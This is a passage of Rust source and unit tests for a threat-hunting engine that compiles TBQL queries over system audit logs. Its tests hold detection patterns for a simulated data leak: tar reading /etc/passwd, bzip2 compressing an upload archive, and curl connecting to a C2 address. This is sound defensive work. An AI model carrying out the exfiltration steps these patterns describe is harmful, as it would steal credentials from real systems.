                    continue; // time-monotone
                }
                if p.events.contains(&rid) {
                    continue;
                }
                if let Some(w) = pat.window {
                    if ev.start < w.lo || ev.end > w.hi {
                        continue;
                    }
                }
                let mut np = p.clone();
                if np.events.is_empty() {
                    np.start = ev.start;
                }
                np.end = ev.end;
                np.events.push(rid);
                np.node = ev.object;
                if hop >= *min_hops && ev.op == last_op && dsts.contains(&ev.object) {
                    out.push(PatternRow {
                        subject: EntityId(event_at(np.events[0]).subject.0),
                        object: ev.object,
                        events: np.events.clone(),
                        start: np.start,
                        end: np.end,
                    });
                    if out.len() >= MAX_PATH_MATCHES {
                        break 'expansion;
                    }
                }
                next.push(np);
            }
        }
        frontier = next;
        if frontier.is_empty() {
            break;
        }
    }
    // Position-sorted output: a stable, backend-independent row order
    // (hop-major expansion order would differ from the graph backend's
    // depth-first order; sorted order agrees with neither but is the same
    // for every executor that goes through this function).
    out.sort_unstable_by(|a, b| a.events.cmp(&b.events));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_audit::sim::scenario::{AttackKind, ScenarioBuilder};
    use threatraptor_tbql::parser::FIG2_TBQL;

    fn store() -> AuditStore {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(5_000)
            .build();
        AuditStore::ingest(&sc.log, true)
    }

    #[test]
    fn fig2_query_finds_the_attack() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(5_000)
            .build();
        let store = AuditStore::ingest(&sc.log, true);
        let engine = Engine::new(&store);
        let result = engine.hunt(FIG2_TBQL).expect("hunt succeeds");
        assert!(!result.is_empty(), "the attack must be found");
        // Exactly the ground-truth chain.
        let (precision, recall) = result.precision_recall(&store, &sc.ground_truth("data_leakage"));
        assert_eq!(precision, 1.0, "no benign events may match");
        assert_eq!(recall, 1.0, "all 8 steps must be matched");
        // The projection mirrors Fig. 2's return clause.
        assert_eq!(result.columns[0], "p1.exename");
        assert!(result.rows.iter().any(|r| r[0] == "/bin/tar"));
    }

    #[test]
    fn all_modes_agree_on_results() {
        let store = store();
        let engine = Engine::new(&store);
        let scheduled = engine.hunt_mode(FIG2_TBQL, ExecMode::Scheduled).unwrap();
        for mode in [
            ExecMode::Unscheduled,
            ExecMode::RelationalOnly,
            ExecMode::GraphOnly,
        ] {
            let r = engine.hunt_mode(FIG2_TBQL, mode).unwrap();
            assert_eq!(r.rows, scheduled.rows, "mode {mode:?} must agree");
        }
    }

    #[test]
    fn scheduled_executes_most_constrained_first() {
        let store = store();
        let engine = Engine::new(&store);
        let r = engine.hunt_mode(FIG2_TBQL, ExecMode::Scheduled).unwrap();
        // evt1 (2 filters) and evt8 (2 filters) precede 1-filter patterns.
        let order = &r.stats.execution_order;
        let pos = |id: &str| order.iter().position(|x| x == id).unwrap();
        assert!(pos("evt1") < pos("evt2"));
        assert!(pos("evt8") < pos("evt2"));
        // Unscheduled keeps declaration order.
        let r = engine.hunt_mode(FIG2_TBQL, ExecMode::Unscheduled).unwrap();
        assert_eq!(r.stats.execution_order[0], "evt1");
        assert_eq!(r.stats.execution_order[1], "evt2");
    }

    #[test]
    fn propagation_reduces_fetched_rows() {
        let store = store();
        let engine = Engine::new(&store);
        let scheduled = engine.hunt_mode(FIG2_TBQL, ExecMode::Scheduled).unwrap();
        let unscheduled = engine.hunt_mode(FIG2_TBQL, ExecMode::Unscheduled).unwrap();
        let total = |r: &HuntResult| -> usize { r.stats.rows_fetched.iter().map(|(_, n)| n).sum() };
        assert!(
            total(&scheduled) <= total(&unscheduled),
            "propagation must not fetch more rows ({} vs {})",
            total(&scheduled),
            total(&unscheduled)
        );
    }

    #[test]
    fn temporal_constraints_prune() {
        let store = store();
        let engine = Engine::new(&store);
        // Reversed ordering must not match (bzip2 runs after tar).
        let reversed = "proc p2[\"%/bin/bzip2%\"] read file f2[\"%/tmp/upload.tar%\"] as e1\n\
                        proc p1[\"%/bin/tar%\"] write f2 as e2\n\
                        with e1 before e2\n\
                        return p1, p2";
        let r = engine.hunt(reversed).unwrap();
        assert!(r.is_empty(), "temporal contradiction with reality");
    }

    #[test]
    fn path_patterns_find_multi_hop_flows() {
        let store = store();
        let engine = Engine::new(&store);
        // /etc/passwd flows to the C2 IP through tar→file→bzip2→… chain?
        // A 1~4 hop path from the tar process to a file whose final hop is
        // a write must exist (tar writes /tmp/upload.tar).
        let q = "proc p[\"%/bin/tar%\"] ~>(1~2)[write] file f[\"%/tmp/upload.tar%\"] as pp1\n\
                 return p, f";
        let r = engine.hunt(q).unwrap();
        assert!(!r.is_empty());
        // Graph and SQL expansion agree.
        let sql = engine.hunt_mode(q, ExecMode::RelationalOnly).unwrap();
        assert_eq!(r.rows, sql.rows);
    }

    #[test]
    fn empty_result_for_absent_behavior() {
        let store = store();
        let engine = Engine::new(&store);
        let r = engine
            .hunt("proc p[\"%/bin/ghost%\"] read file f return p")
            .unwrap();
        assert!(r.is_empty());
        assert_eq!(r.precision_recall(&store, &[]), (1.0, 1.0));
    }

    #[test]
    fn semantic_errors_propagate() {
        let store = store();
        let engine = Engine::new(&store);
        let err = engine.hunt("file x read file f return f").unwrap_err();
        assert!(matches!(err, EngineError::Semantic(_)));
    }

    #[test]
    fn window_restricts_matches() {
        let sc = ScenarioBuilder::new()
            .seed(42)
            .attacks(&[AttackKind::DataLeakage])
            .target_events(5_000)
            .build();
        let store = AuditStore::ingest(&sc.log, true);
        let engine = Engine::new(&store);
        // The attack happens somewhere inside the scenario; a window
        // ending at t=1 excludes it.
        let q =
            "proc p[\"%/bin/tar%\"] read file f[\"%/etc/passwd%\"] as e1 window [0, 1] return p";
        let r = engine.hunt(q).unwrap();
        assert!(r.is_empty());
    }

    #[test]
    fn self_loop_patterns_require_same_entity() {
        let store = store();
        let engine = Engine::new(&store);
        // `p fork p` would require a process forking itself — none exist.
        let r = engine.hunt("proc p fork p as e1 return p").unwrap();
        assert!(r.is_empty());
    }
}
