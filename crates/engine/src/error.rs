//! Engine errors.

use std::fmt;
use threatraptor_tbql::error::TbqlError;
use threatraptor_tbql::lint::Diagnostic;

/// Errors surfaced while compiling or executing a TBQL query.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EngineError {
    /// The query failed TBQL semantic analysis.
    Semantic(TbqlError),
    /// The lint pass proved the query can never match (error-level
    /// diagnostics: temporal infeasibility, contradictory filters).
    Infeasible(Vec<Diagnostic>),
    /// The query references something the store cannot serve.
    Execution(String),
}

impl fmt::Display for EngineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EngineError::Semantic(e) => write!(f, "semantic error: {e}"),
            EngineError::Infeasible(diags) => {
                write!(f, "infeasible query: ")?;
                for (i, d) in diags.iter().enumerate() {
                    if i > 0 {
                        write!(f, "; ")?;
                    }
                    write!(f, "{d}")?;
                }
                Ok(())
            }
            EngineError::Execution(m) => write!(f, "execution error: {m}"),
        }
    }
}

impl std::error::Error for EngineError {}

impl From<TbqlError> for EngineError {
    fn from(e: TbqlError) -> Self {
        EngineError::Semantic(e)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use threatraptor_tbql::error::Span;

    #[test]
    fn display_variants() {
        let e = EngineError::from(TbqlError::new(Span::new(0, 1), "bad"));
        assert!(e.to_string().contains("semantic"));
        let e = EngineError::Execution("boom".into());
        assert!(e.to_string().contains("boom"));
        let e = EngineError::Infeasible(vec![Diagnostic {
            code: "E001",
            severity: threatraptor_tbql::lint::Severity::Error,
            span: Span::new(0, 1),
            message: "never matches".into(),
        }]);
        let text = e.to_string();
        assert!(text.contains("infeasible query"), "{text}");
        assert!(text.contains("E001"), "{text}");
    }
}
