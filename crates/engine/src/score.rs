//! Pruning scores (paper §II-F).
//!
//! "For each pattern, ThreatRaptor computes a pruning score by counting
//! the number of constraints declared; a pattern with more constraints
//! has a higher score. For a variable-length event path pattern,
//! ThreatRaptor additionally considers the path length; a pattern with a
//! smaller maximum path length has a higher score."
//!
//! Two refinements over the bare count, both selectivity-motivated:
//! constraints are counted at the *variable* level (a filter declared on
//! `p1` in `evt1` constrains every pattern that mentions `p1`), and
//! equality constraints earn a bonus over wildcard (`LIKE`) constraints —
//! an exact IP pins far fewer rows than a substring match.

use threatraptor_tbql::analyze::EntityInfo;
use threatraptor_tbql::ast::{CmpOp, Expr, TimeWindow};

/// Counts `(total constraints, equality constraints)` in an expression.
fn expr_counts(e: &Expr) -> (i64, i64) {
    match e {
        Expr::Cmp { op, .. } => (1, i64::from(*op == CmpOp::Eq)),
        Expr::And(legs) | Expr::Or(legs) => legs
            .iter()
            .map(expr_counts)
            .fold((0, 0), |(a, b), (c, d)| (a + c, b + d)),
    }
}

/// Computes the pruning score of a pattern from its endpoint variables'
/// merged filters, its window, and its maximum path length (1 for event
/// patterns).
///
/// Scale: constraint count dominates, the equality bonus breaks ties
/// between equally-constrained patterns, and the path-length penalty
/// breaks the remaining ties.
pub fn pruning_score(
    subject: &EntityInfo,
    object: &EntityInfo,
    window: Option<TimeWindow>,
    max_len: u32,
) -> i64 {
    let mut constraints = 0i64;
    let mut equalities = 0i64;
    for info in [subject, object] {
        for f in &info.filters {
            let (c, e) = expr_counts(f);
            constraints += c;
            equalities += e;
        }
    }
    if window.is_some() {
        constraints += 1;
    }
    constraints * 1_000 + equalities * 10 - i64::from(max_len)
}

#[cfg(test)]
mod tests {
    use threatraptor_tbql::analyze::analyze;
    use threatraptor_tbql::parser::parse_query;

    fn scores(src: &str) -> Vec<i64> {
        let aq = analyze(&parse_query(src).unwrap()).unwrap();
        let compiled = crate::compile::compile(&aq).unwrap();
        compiled.patterns.iter().map(|p| p.score).collect()
    }

    #[test]
    fn more_filters_score_higher() {
        let s = scores(
            r#"proc p["%a%"] read file f["%b%"] as e1
               proc q read file g as e2
               return p"#,
        );
        assert!(s[0] > s[1]);
    }

    #[test]
    fn variable_level_counting() {
        // evt2 reuses p (filtered at evt1): the filter constrains both.
        let s = scores(
            r#"proc p["%a%"] read file f["%b%"] as e1
               p write file g["%c%"] as e2
               return p"#,
        );
        assert_eq!(s[0], s[1], "shared variable carries its constraint");
    }

    #[test]
    fn equality_beats_like() {
        let s = scores(
            r#"proc p["%tar%"] read file f["%passwd%"] as e1
               proc q["%curl%"] connect ip i["192.168.29.128"] as e2
               return p"#,
        );
        assert!(s[1] > s[0], "the exact IP match is more selective: {s:?}");
    }

    #[test]
    fn window_counts_as_constraint() {
        let s = scores("proc p read file f as e1 window [1, 2] proc q read file g as e2 return p");
        assert!(s[0] > s[1]);
    }

    #[test]
    fn shorter_paths_beat_longer_paths() {
        let s = scores(
            r#"proc p["%a%"] ~>(1~2)[read] file f as e1
               proc q["%a%"] ~>(1~7)[read] file g as e2
               return p"#,
        );
        assert!(s[0] > s[1]);
    }

    #[test]
    fn constraints_dominate_length_and_equality() {
        let s = scores(
            r#"proc p["%a%"] ~>(1~8)[read] file f["%b%"] as e1
               proc q ~>(1~1)[read] file g as e2
               return p"#,
        );
        assert!(s[0] > s[1], "two LIKEs beat zero constraints: {s:?}");
    }
}
