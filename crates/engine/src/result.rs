//! Hunt results: bindings, matched events, evaluation helpers.

use std::collections::{BTreeSet, HashMap};
use std::fmt::Write as _;
use std::time::Duration;
use threatraptor_audit::entity::EntityId;
use threatraptor_audit::event::EventId;
use threatraptor_storage::store::EventLookup;

/// One complete match of all patterns: entity bindings plus the events
/// that witnessed each pattern.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Match {
    /// Entity variable → bound entity.
    pub bindings: HashMap<String, EntityId>,
    /// Pattern id → witnessing event positions (into the store's event
    /// vector); one for event patterns, one per hop for path patterns.
    pub events: HashMap<String, Vec<usize>>,
    /// Pattern id → `(start, end)` window of the witnessing events.
    pub times: HashMap<String, (u64, u64)>,
}

/// Candidate/output row counts of one pattern's join step.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct JoinStats {
    /// Row pairs considered: `|partial| × |fetched|` (just `|fetched|`
    /// for the first pattern, which seeds the partial set).
    pub candidates: usize,
    /// Partial matches surviving the join.
    pub outputs: usize,
}

impl JoinStats {
    /// Output/candidate ratio in `[0, 1]`; zero candidates yield 0.
    pub fn selectivity(&self) -> f64 {
        if self.candidates == 0 {
            0.0
        } else {
            self.outputs as f64 / self.candidates as f64
        }
    }
}

/// Actuals of one incremental (delta-mode) execution, carried on
/// [`HuntStats::delta`] when the hunt ran through the delta path
/// ([`crate::delta::DeltaState`]) instead of a full re-execution.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct DeltaStats {
    /// First global event position scanned as "fresh": the epoch-delta
    /// range was `[fresh_from, event_count)`. Zero means the poll was a
    /// (first-poll or post-discontinuity) full re-execution.
    pub fresh_from: usize,
    /// Rows fetched from the fresh range across all patterns (the seed
    /// scans) — the quantity that stays O(delta) as the store grows.
    pub fresh_rows: usize,
    /// Rows fetched by carry scans (full-range, IN-set-filtered scans
    /// joining an upstream delta forward through later patterns).
    pub carry_rows: usize,
    /// Retained partial bindings consulted by this poll.
    pub carried_partials: usize,
    /// Partial bindings retained after this poll.
    pub retained_partials: usize,
}

/// Execution statistics.
#[derive(Debug, Clone, Default)]
pub struct HuntStats {
    /// Pattern ids in the order they were executed.
    pub execution_order: Vec<String>,
    /// Rows produced by each pattern's data query, in execution order.
    pub rows_fetched: Vec<(String, usize)>,
    /// Rows scanned per shard for each pattern, in execution order.
    /// Single-store executions report one pseudo-shard per pattern.
    pub shard_rows: Vec<(String, Vec<usize>)>,
    /// Rows excluded per pattern by the DBM-derived feasible-range
    /// clamp, in execution order. Empty when no pattern carries
    /// tightened bounds (or on single-store execution, which does not
    /// clamp). The `engine_rows_pruned_total{pattern}` metric is bumped
    /// from these same counts, so EXPLAIN ANALYZE actuals and the metric
    /// agree by construction.
    pub rows_pruned: Vec<(String, usize)>,
    /// Constraint-propagation pruning per pattern, in execution order:
    /// for each variable that received a propagated IN-set filter, the
    /// number of already-bound entity ids pushed down (empty when no
    /// propagation applied — first pattern, or independent mode).
    pub propagated: Vec<(String, Vec<(String, usize)>)>,
    /// Join candidate/output counts per pattern, in execution order.
    pub join_stats: Vec<(String, JoinStats)>,
    /// Wall time spent in each pattern's data query (the scan), in
    /// execution order.
    pub pattern_elapsed: Vec<(String, Duration)>,
    /// Wall time building cross-pattern IN-set filters (constraint
    /// propagation; zero in independent mode).
    pub propagate_elapsed: Duration,
    /// Wall time joining fetched rows into the partial match set.
    pub join_elapsed: Duration,
    /// Wall time projecting matches into output rows.
    pub project_elapsed: Duration,
    /// Wall-clock execution time.
    pub elapsed: Duration,
    /// Present when this execution ran through the incremental (delta)
    /// path: the fresh-range and retained-partial actuals. `None` for
    /// full executions.
    pub delta: Option<DeltaStats>,
}

impl HuntStats {
    /// Total wall time across all pattern scans.
    pub fn scan_elapsed(&self) -> Duration {
        self.pattern_elapsed.iter().map(|(_, d)| *d).sum()
    }

    /// Total rows fetched across all patterns.
    pub fn total_rows(&self) -> usize {
        self.rows_fetched.iter().map(|(_, n)| n).sum()
    }

    /// Total rows excluded by the DBM feasible-range clamp.
    pub fn total_rows_pruned(&self) -> usize {
        self.rows_pruned.iter().map(|(_, n)| n).sum()
    }

    /// Records the per-stage breakdown into a [`TraceSink`] (one
    /// sample per stage: `scan`, `propagate`, `join`, `project`).
    ///
    /// [`TraceSink`]: threatraptor_obs::TraceSink
    pub fn record_stages(&self, sink: &threatraptor_obs::TraceSink) {
        sink.record("scan", self.scan_elapsed());
        sink.record("propagate", self.propagate_elapsed);
        sink.record("join", self.join_elapsed);
        sink.record("project", self.project_elapsed);
    }
}

/// The result of executing a TBQL query.
#[derive(Debug, Clone)]
pub struct HuntResult {
    /// Projected column names (`p1.exename`, …).
    pub columns: Vec<String>,
    /// Projected rows (deduplicated when the query says `distinct`).
    pub rows: Vec<Vec<String>>,
    /// Full matches (before projection).
    pub matches: Vec<Match>,
    /// Statistics.
    pub stats: HuntStats,
}

impl HuntResult {
    /// True when nothing matched.
    pub fn is_empty(&self) -> bool {
        self.matches.is_empty()
    }

    /// All matched event ids (original ids, stable across CPR). Works
    /// over any store the result was produced against: a single
    /// `AuditStore` (positions are table rows) or a `ShardedStore`
    /// (positions are global).
    pub fn matched_event_ids(&self, store: &impl EventLookup) -> BTreeSet<EventId> {
        self.matches
            .iter()
            .flat_map(|m| m.events.values().flatten())
            .map(|&pos| store.event_at(pos).id)
            .collect()
    }

    /// Precision/recall of matched events against ground truth.
    ///
    /// Returns `(precision, recall)`; empty result sets yield precision 1
    /// when nothing was expected, 0 otherwise.
    pub fn precision_recall(
        &self,
        store: &impl EventLookup,
        ground_truth: &[EventId],
    ) -> (f64, f64) {
        let got = self.matched_event_ids(store);
        let want: BTreeSet<EventId> = ground_truth.iter().copied().collect();
        let tp = got.intersection(&want).count() as f64;
        let precision = if got.is_empty() {
            if want.is_empty() {
                1.0
            } else {
                0.0
            }
        } else {
            tp / got.len() as f64
        };
        let recall = if want.is_empty() {
            1.0
        } else {
            tp / want.len() as f64
        };
        (precision, recall)
    }

    /// Renders the projected rows as an aligned text table (the "system
    /// auditing records" panel of the demo UI).
    pub fn render_table(&self) -> String {
        let mut widths: Vec<usize> = self.columns.iter().map(|c| c.len()).collect();
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate() {
                widths[i] = widths[i].max(cell.len());
            }
        }
        let mut out = String::new();
        let sep = |out: &mut String| {
            for w in &widths {
                out.push('+');
                out.push_str(&"-".repeat(w + 2));
            }
            out.push_str("+\n");
        };
        sep(&mut out);
        for (i, c) in self.columns.iter().enumerate() {
            write!(out, "| {c:<w$} ", w = widths[i]).unwrap();
        }
        out.push_str("|\n");
        sep(&mut out);
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate() {
                write!(out, "| {cell:<w$} ", w = widths[i]).unwrap();
            }
            out.push_str("|\n");
        }
        sep(&mut out);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn result_with_rows(rows: Vec<Vec<String>>) -> HuntResult {
        HuntResult {
            columns: vec!["p1.exename".into(), "f1.name".into()],
            rows,
            matches: Vec::new(),
            stats: HuntStats::default(),
        }
    }

    #[test]
    fn table_rendering_aligns() {
        let r = result_with_rows(vec![
            vec!["/bin/tar".into(), "/etc/passwd".into()],
            vec!["/usr/bin/gpg".into(), "/tmp/upload".into()],
        ]);
        let t = r.render_table();
        assert!(t.contains("| p1.exename   |"));
        assert!(t.contains("| /bin/tar     |"));
        let lines: Vec<&str> = t.lines().collect();
        let len = lines[0].len();
        assert!(lines.iter().all(|l| l.len() == len), "{t}");
    }

    #[test]
    fn empty_result() {
        let r = result_with_rows(vec![]);
        assert!(r.is_empty());
        let t = r.render_table();
        assert!(t.contains("p1.exename"));
    }
}
