//! # threatraptor-engine
//!
//! The TBQL query execution engine (paper §II-F).
//!
//! "To execute a TBQL query with multiple patterns, ThreatRaptor compiles
//! each pattern into a semantically equivalent SQL or Cypher data query,
//! and schedules the execution of these data queries in different
//! database backends. … For each pattern, ThreatRaptor computes a
//! *pruning score* by counting the number of constraints declared; a
//! pattern with more constraints has a higher score. For a variable-length
//! event path pattern, ThreatRaptor additionally considers the path
//! length … when scheduling the execution of the data queries,
//! ThreatRaptor considers both the pruning scores and the pattern
//! dependencies: if two patterns are connected by the same system entity,
//! ThreatRaptor will first execute the data query whose associated
//! pattern has a higher pruning score, and then use the execution results
//! to constrain the execution of the other data query (by adding
//! filters)."
//!
//! Modules:
//! * [`compile`] — event patterns → relational select-project-join plans
//!   (with SQL text rendering); path patterns → graph path queries (with
//!   Cypher text rendering);
//! * [`score`] — pruning scores;
//! * [`exec`] — the scheduler/executor, including the baseline execution
//!   modes used by the efficiency experiments (unscheduled,
//!   relational-only, graph-only);
//! * [`sharded`] — the scatter-gather executor over a
//!   [`threatraptor_storage::sharded::ShardedStore`], with exact parity
//!   to single-store execution;
//! * [`result`] — hunt results, per-pattern matches, and evaluation
//!   against ground truth;
//! * [`explain`] — `EXPLAIN` / `EXPLAIN ANALYZE` reports: the compiled
//!   plan (schedule, filters, predicted fan-out) plus measured actuals
//!   (per-pattern × per-shard rows scanned, propagation prune sizes,
//!   join selectivity, per-stage wall time);
//! * [`delta`] — incremental execution for standing queries: epoch-range
//!   restricted scans joined against retained partial bindings, O(delta)
//!   per poll in the steady state.

pub mod compile;
pub mod delta;
pub mod error;
pub mod exec;
pub mod explain;
pub mod result;
pub mod score;
pub mod sharded;

pub use delta::DeltaState;
pub use error::EngineError;
pub use exec::{Engine, ExecMode};
pub use explain::{ExplainActuals, ExplainEntry, ExplainReport, PatternActuals};
pub use result::{DeltaStats, HuntResult, HuntStats, JoinStats, Match};
pub use sharded::ShardedEngine;
