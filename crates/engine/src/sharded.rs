//! Scatter-gather execution over a [`ShardedStore`].
//!
//! Mirrors the paper's scheduler (§II-F) exactly — same pruning-score
//! ordering, same constraint propagation, same join — but each pattern's
//! *data query* fans out across the store's shards:
//!
//! * **event patterns** run the per-shard data query (with the same
//!   propagated filters) on every shard, in parallel on scoped threads;
//!   shard-local row positions are translated to global positions and the
//!   gathered rows are merged in deterministic (global position) order —
//!   which is precisely the order the single-store executor produces,
//!   since shards are contiguous slices of the same event stream;
//! * **path patterns** cannot be answered per shard (a multi-hop flow may
//!   cross a time-window boundary), so they run as hop-by-hop frontier
//!   expansion where each hop's index probe is the sorted union of every
//!   shard's probe — semantically identical to probing one global event
//!   table.
//!
//! Because the fan-out happens at the data-query level and the join stays
//! global, a [`ShardedEngine`] returns exactly the *record set* a
//! single-store [`Engine`] returns on the same `(log, cpr)` input: same
//! matches, same matched event ids, same projected rows up to order.
//! Event-pattern results agree in row order too; path-pattern rows come
//! back position-sorted, whereas the single-store graph backend emits
//! them in depth-first search order — order-normalized comparison (as in
//! the parity tests) is the contract. When a path pattern overflows the
//! 100k safety cap, the two executors may also retain different (equally
//! arbitrary) subsets — the cap is a resource valve, not a semantic
//! guarantee.

use crate::compile::{compile, CompiledPattern, CompiledQuery, CompiledShape};
use crate::error::EngineError;
use crate::exec::{expand_paths, project_matches, run_schedule, Engine, ExecMode, PatternRow};
use crate::result::{HuntResult, Match};
use std::collections::{HashMap, HashSet};
use threatraptor_audit::entity::EntityId;
use threatraptor_obs::Registry;
use threatraptor_storage::relational::{Predicate, Value};
use threatraptor_storage::sharded::ShardedStore;
use threatraptor_storage::store::TABLE_EVENT;
use threatraptor_tbql::analyze::{analyze, AnalyzedQuery};
use threatraptor_tbql::ast::Query;
use threatraptor_tbql::parser::parse_query;

/// The scatter-gather query engine over a sharded store.
#[derive(Debug, Clone, Copy)]
pub struct ShardedEngine<'s> {
    store: &'s ShardedStore,
    /// Worker threads for per-pattern shard fan-out (1 = sequential).
    threads: usize,
    /// Optional metric sink: when attached, every execution bumps
    /// `engine_rows_scanned_total{pattern=...,shard=...}` counters from
    /// the same per-shard row counts that land in
    /// [`HuntStats::shard_rows`] — so EXPLAIN ANALYZE totals and the
    /// exported counters agree by construction.
    ///
    /// [`HuntStats::shard_rows`]: crate::result::HuntStats::shard_rows
    registry: Option<&'s Registry>,
}

impl<'s> ShardedEngine<'s> {
    /// Creates an engine fanning out across all available cores.
    pub fn new(store: &'s ShardedStore) -> ShardedEngine<'s> {
        let threads = std::thread::available_parallelism()
            .map(|p| p.get())
            .unwrap_or(1);
        Self::with_threads(store, threads)
    }

    /// Creates an engine with an explicit shard-scan thread count. Use 1
    /// when an outer layer (e.g. the hunt scheduler's worker pool) already
    /// saturates the cores with concurrent queries.
    pub fn with_threads(store: &'s ShardedStore, threads: usize) -> ShardedEngine<'s> {
        ShardedEngine {
            store,
            threads: threads.max(1),
            registry: None,
        }
    }

    /// Attaches a metric registry for per-execution row-scan counters.
    pub fn with_registry(mut self, registry: &'s Registry) -> ShardedEngine<'s> {
        self.registry = Some(registry);
        self
    }

    /// The underlying sharded store.
    pub fn store(&self) -> &'s ShardedStore {
        self.store
    }

    /// Parses, analyzes, compiles, and executes TBQL source with the
    /// scheduled strategy.
    pub fn hunt(&self, tbql: &str) -> Result<HuntResult, EngineError> {
        self.hunt_mode(tbql, ExecMode::Scheduled)
    }

    /// Like [`ShardedEngine::hunt`] with an explicit execution mode.
    pub fn hunt_mode(&self, tbql: &str, mode: ExecMode) -> Result<HuntResult, EngineError> {
        let query = parse_query(tbql)?;
        self.hunt_query(&query, mode)
    }

    /// Executes an already parsed query.
    pub fn hunt_query(&self, query: &Query, mode: ExecMode) -> Result<HuntResult, EngineError> {
        let analyzed = analyze(query)?;
        self.hunt_analyzed(&analyzed, mode)
    }

    /// Executes an analyzed query.
    pub fn hunt_analyzed(
        &self,
        analyzed: &AnalyzedQuery,
        mode: ExecMode,
    ) -> Result<HuntResult, EngineError> {
        let compiled = compile(analyzed)?;
        self.execute(&compiled, mode)
    }

    /// Executes a compiled query — the entry point the plan cache feeds.
    pub fn execute(&self, cq: &CompiledQuery, mode: ExecMode) -> Result<HuntResult, EngineError> {
        // Per-shard row counts and DBM-clamp pruning, collected as each
        // pattern's data query fans out (execution order). RefCell: the
        // fetch closure is `FnMut` and the collectors outlive it.
        let shard_rows: std::cell::RefCell<Vec<(String, Vec<usize>)>> =
            std::cell::RefCell::new(Vec::new());
        let rows_pruned: std::cell::RefCell<Vec<(String, usize)>> =
            std::cell::RefCell::new(Vec::new());
        let mut result = run_schedule(
            cq,
            mode,
            &mut |pat, extra| {
                let (rows, per_shard, pruned) = self.fetch_pattern(cq, pat, extra, mode, 0);
                shard_rows.borrow_mut().push((pat.id.clone(), per_shard));
                rows_pruned.borrow_mut().push((pat.id.clone(), pruned));
                rows
            },
            &|id, attr| self.store.entity(id).attr(attr),
        );
        result.stats.shard_rows = shard_rows.into_inner();
        result.stats.rows_pruned = rows_pruned.into_inner();
        if let Some(registry) = self.registry {
            for (pattern, shards) in &result.stats.shard_rows {
                for (shard, rows) in shards.iter().enumerate() {
                    registry
                        .counter_labeled(
                            "engine_rows_scanned_total",
                            &[("pattern", pattern), ("shard", &shard.to_string())],
                        )
                        .add(*rows as u64);
                }
            }
            // Bumped from the same counts that land in the stats, so
            // EXPLAIN ANALYZE actuals equal the metric by construction.
            for (pattern, pruned) in &result.stats.rows_pruned {
                registry
                    .counter_labeled("engine_rows_pruned_total", &[("pattern", pattern)])
                    .add(*pruned as u64);
            }
        }
        Ok(result)
    }

    /// Projects a set of matches through this store, exactly as
    /// [`ShardedEngine::execute`] projects its own matches — the
    /// follow-mode hunt uses this to turn a *delta* of new matches into
    /// result rows without re-projecting the whole result. Returns
    /// `(columns, rows)`; when the query is `distinct`, rows are sorted
    /// and deduplicated within the given match set.
    pub fn project(
        &self,
        cq: &CompiledQuery,
        matches: &[Match],
    ) -> (Vec<String>, Vec<Vec<String>>) {
        project_matches(cq, matches, &|id, attr| self.store.entity(id).attr(attr))
    }

    /// Entity ids satisfying a variable's merged predicate, resolved
    /// against the **store-level** entity tables. In a batch store these
    /// are the same physical tables every shard shares; in a streaming
    /// snapshot they are the authoritative current tables — sealed shards
    /// carry only the (sufficient for shard-local residuals, but
    /// incomplete) entity prefix known when they were frozen, so probing
    /// shard 0 would miss entities that arrived after the oldest seal.
    fn global_entity_filter_set(
        &self,
        cq: &CompiledQuery,
        var: &str,
        extra: &HashMap<String, Predicate>,
    ) -> HashSet<EntityId> {
        crate::exec::entity_filter_set_in(
            self.store.entity_table(cq.var_tables[var]),
            cq,
            var,
            extra,
        )
    }

    /// Runs one pattern's data query across all shards; the returned rows
    /// carry *global* event positions, sorted for a deterministic join.
    /// Also returns the per-shard row counts (index = shard) feeding the
    /// execution profile, and the number of rows the DBM feasible-range
    /// clamp excluded.
    ///
    /// `min_pos` restricts event-pattern scans to rows whose witness
    /// position is at least `min_pos` — the delta executor's epoch-range
    /// restriction. Shards lying entirely below the cut are skipped
    /// without scanning (reporting zero rows); only the boundary shard
    /// filters row by row. Path patterns ignore it (the delta executor
    /// never runs them). `0` scans everything.
    pub(crate) fn fetch_pattern(
        &self,
        cq: &CompiledQuery,
        pat: &CompiledPattern,
        extra: &HashMap<String, Predicate>,
        mode: ExecMode,
        min_pos: usize,
    ) -> (Vec<PatternRow>, Vec<usize>, usize) {
        let (mut rows, mut per_shard) = match pat.shape {
            CompiledShape::Event { .. } => {
                self.scatter_event_pattern(cq, pat, extra, mode, min_pos)
            }
            CompiledShape::Path { .. } => {
                let rows = self.path_over_shards(cq, pat, extra);
                // Paths expand globally; attribute each row to the shard
                // holding its first hop so profile totals still add up.
                let mut per_shard = vec![0usize; self.store.shard_count()];
                for r in &rows {
                    if let Some(&pos) = r.events.first() {
                        per_shard[self.shard_of(pos)] += 1;
                    }
                }
                (rows, per_shard)
            }
        };
        // Clamp the scan to the DBM-derived feasible range: a row outside
        // `[lo, hi]` cannot witness the pattern in any complete match
        // (the bounds are consequences of the query's own windows and
        // `before` ordering), so dropping it here preserves the match set
        // exactly while shrinking every downstream propagate/join step.
        let mut pruned = 0usize;
        if let Some(b) = pat.bounds {
            rows.retain(|r| {
                let keep = r.start >= b.lo && r.end <= b.hi;
                if !keep {
                    pruned += 1;
                    if let Some(&pos) = r.events.first() {
                        per_shard[self.shard_of(pos)] -= 1;
                    }
                }
                keep
            });
        }
        (rows, per_shard, pruned)
    }

    /// The shard holding global event position `pos`.
    fn shard_of(&self, pos: usize) -> usize {
        let mut shard = 0;
        for i in 0..self.store.shard_count() {
            if self.store.offset(i) <= pos {
                shard = i;
            } else {
                break;
            }
        }
        shard
    }

    /// Event-pattern scatter: each shard evaluates the pattern over its
    /// own slice of the stream with the single-store executor, then rows
    /// are translated to global positions and merge-sorted.
    ///
    /// Entity predicates are resolved to id sets **once** against the
    /// store-level entity tables and pushed down as indexed `id IN (…)`
